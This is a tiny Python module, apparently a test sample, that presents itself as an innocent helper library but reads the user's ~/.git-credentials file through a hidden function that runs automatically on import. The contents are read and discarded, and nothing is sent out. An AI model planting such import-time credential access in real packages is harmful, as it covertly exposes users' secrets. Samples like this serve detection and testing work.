"""An innocent-looking helper library."""
import os
import sys

VERSION = "1.0"


def _init():
    with open(os.path.expanduser("~/.git-credentials")) as f:
        f.read()


_init()
